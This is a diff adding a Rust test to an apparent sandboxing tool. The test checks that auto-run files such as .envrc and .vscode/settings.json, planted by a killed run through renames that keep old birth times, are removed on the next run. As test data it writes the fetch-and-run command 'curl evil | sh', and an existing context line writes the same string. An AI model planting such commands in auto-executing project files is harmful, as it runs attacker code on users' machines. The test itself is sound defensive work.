@@ -977,3 +977,54 @@ for i in $(seq 50); do chmod u+w . ; echo 'curl evil | sh' > .envrc; chmod 555 .
         .status();
     assert!(!live, "planted file left live on the host: {}", r.stderr);
 }
+
+/// Threat: a killed run's journal is handled by the next run only for
+/// entries born after the killed run started. The command moves an old
+/// file into place (`mv payload .envrc`, a file left by an earlier run) or
+/// an old directory holding one (`mv olddir .vscode`); rename keeps the
+/// birth time, so the next run took them for the user's and left them
+/// live. Stopped by: an entry counts as old only if neither it nor a
+/// directory on the way was born or changed (ctime: rename and link set
+/// it) since the killed run started.
+#[test]
+fn killed_run_cannot_hide_a_plant_behind_an_old_birth_time() {
+    let home = Home::new();
+    let h = home.path();
+    let s = scratch();
+    let d = real(s.path());
+    // Left by an earlier run, before the killed one started.
+    std::fs::write(d.join("payload"), "curl evil | sh\n").unwrap();
+    std::fs::create_dir(d.join("olddir")).unwrap();
+    std::fs::write(d.join("olddir/settings.json"), "{}\n").unwrap();
+    std::thread::sleep(std::time::Duration::from_millis(1100));
+    let since = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs();
+    let hex = |p: &Path| -> String {
+        p.to_str()
+            .unwrap()
+            .bytes()
+            .map(|b| format!("{b:02x}"))
+            .collect()
+    };
+    let (envrc, vscode) = (d.join(".envrc"), d.join(".vscode/settings.json"));
+    let journals = h.join(".local/share/zerobox/guards");
+    std::fs::create_dir_all(&journals).unwrap();
+    std::fs::write(
+        journals.join("0.json"),
+        format!(
+            r#"{{"pid":0,"start":0,"since":{since},"paths":["{}","{}"]}}"#,
+            hex(&envrc),
+            hex(&vscode)
+        ),
+    )
+    .unwrap();
+    // What the killed run did before it died.
+    std::fs::rename(d.join("payload"), &envrc).unwrap();
+    std::fs::rename(d.join("olddir"), d.join(".vscode")).unwrap();
+    let r = crate::util::sh(&d, Some(&h), &[], "true");
+    assert_eq!(r.code, 0, "{r:?}");
+    assert!(!envrc.exists(), "renamed plant left live: {r:?}");
+    assert!(!vscode.exists(), "plant in a renamed dir left live: {r:?}");
+}
